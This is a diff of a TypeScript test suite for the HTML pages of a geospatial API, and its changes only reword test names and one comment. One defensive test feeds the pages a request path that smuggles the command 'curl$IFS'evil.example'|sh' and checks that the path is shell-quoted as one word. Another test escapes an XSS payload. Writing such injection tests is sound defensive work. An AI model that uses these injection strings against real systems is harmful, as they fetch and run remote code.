@@ -43,18 +43,18 @@ const FIRST: FirstPageFacts = {
   computation: { path: '/api/v1/sample/', body: { state: `${EVIL} it's` } },
 };
 
-test('text from elsewhere is escaped on the first page', async () => {
+test('external text is escaped on the first page', async () => {
   const page = String(await firstPage(FIRST));
   expect(page.split('<script')).toHaveLength(2);
   expect(page).toContain('&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;');
   expect(page).toContain('href="/geo/docs/"');
   expect(page).toContain('href="/geo/api/v1/stac-api/"');
   expect(page).toContain('src="/geo/a.png"');
-  // What a shell would take for the end of the text.
+  // A quote would end the text in a shell.
   expect(page).toContain(`it&#39;\\&#39;&#39;s`);
 });
 
-test('the headline says nothing of any layer', async () => {
+test('the headline names no layer', async () => {
   const page = String(
     await firstPage({ ...FIRST, title: 'Maps', publications: [], offers: [], computation: undefined }),
   );
@@ -63,7 +63,7 @@ test('the headline says nothing of any layer', async () => {
   expect(page).not.toMatch(/land cover/i);
 });
 
-test('a problem is told with the way on, and escaped', () => {
+test('the problem page shows the message, escaped, with links to other pages', () => {
   const problem = {
     title: 'Unauthorized',
     message: EVIL,
@@ -78,7 +78,7 @@ test('a problem is told with the way on, and escaped', () => {
   expect(problemPage({ ...problem, status: 404 })).not.toContain('curl');
 });
 
-test('a line to paste holds the address that was asked as one word, whatever stands in it', () => {
+test('the command of the problem page quotes the requested address as one shell word', () => {
   const path = "/api/v1/runs/;curl$IFS'evil.example'|sh;/";
   const page = problemPage({ title: 'T', message: 'm', requestId: 'r', baseUrl: 'http://h', path, status: 401 });
   const line = page
@@ -88,7 +88,7 @@ test('a line to paste holds the address that was asked as one word, whatever sta
   expect(line).toContain(` 'http://h/api/v1/runs/;curl$IFS'\\''evil.example'\\''|sh;/' -H`);
 });
 
-test('how QGIS reads a layer follows from its format: a raster by its parts, a GeoJSON as a whole', async () => {
+test('the QGIS instructions depend on the format: a raster is read in parts, a GeoJSON as a whole', async () => {
   const file = {
     title: 'Layer',
     kind: 'GeoTIFF',
@@ -104,7 +104,7 @@ test('how QGIS reads a layer follows from its format: a raster by its parts, a G
   expect(await shown('vector')).not.toContain('parts');
 });
 
-test('descriptions are shown as they are meant, and nothing of them runs', async () => {
+test('descriptions are rendered as Markdown, and scripts in them do not run', async () => {
   const text = `**Bold** and \`code\`\n\n- one ${EVIL}\n- two\n\n| a | b |\n|---|---|\n| 1 | **2** |\n\nlast`;
   const page = String(await markdown(text, 3)).replace(/\s+/g, ' ');
   expect(page).toContain('<p><strong>Bold</strong> and <code>code</code></p>');
@@ -115,7 +115,7 @@ test('descriptions are shown as they are meant, and nothing of them runs', async
   expect(page).not.toContain('<script');
 });
 
-test('pages allow exactly their own styles and, where they have one, their own script', async () => {
+test('pages allow exactly their own styles and, if they have one, their own script', async () => {
   const page = String(await firstPage(FIRST));
   const sha256 = (text: string): string => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
   const hashOf = (tag: string): string =>
@@ -127,7 +127,7 @@ test('pages allow exactly their own styles and, where they have one, their own s
   expect(PAGE_HEADERS['content-security-policy']).not.toContain('script-src');
 });
 
-test('the reference shows every operation of the document, and every schema link leads somewhere', async () => {
+test('the reference shows every operation of the document, and every schema link has a target', async () => {
   const document = generateOpenApi(buildOperations([samplePipeline]), '1');
   const page = String(await docsPage(document, { baseUrl: 'http://localhost' }));
   for (const row of buildOperations([samplePipeline])) expect(page).toContain(`id="${row.id}"`);
@@ -135,7 +135,7 @@ test('the reference shows every operation of the document, and every schema link
   for (const id of links) expect(page).toContain(`id="${id}"`);
 });
 
-test('a schema in words', () => {
+test('typeText describes a schema', () => {
   expect(typeText({ type: 'object', properties: { a: { type: 'integer', minimum: 1 } }, required: ['a'] })).toBe(
     '{ a: integer 1.. }',
   );
@@ -143,7 +143,7 @@ test('a schema in words', () => {
   expect(typeText({ type: 'array', items: { enum: ['x', 1] } })).toBe('("x" | 1)[]');
 });
 
-test('a table shows its first rows and says what its columns are, and nothing of it runs', async () => {
+test('a table shows its first rows and its columns, and scripts in it do not run', async () => {
   const column = { name: 'area', unit: 'ha', description: EVIL, isNumber: true };
   const page = String(
     await tablePage({
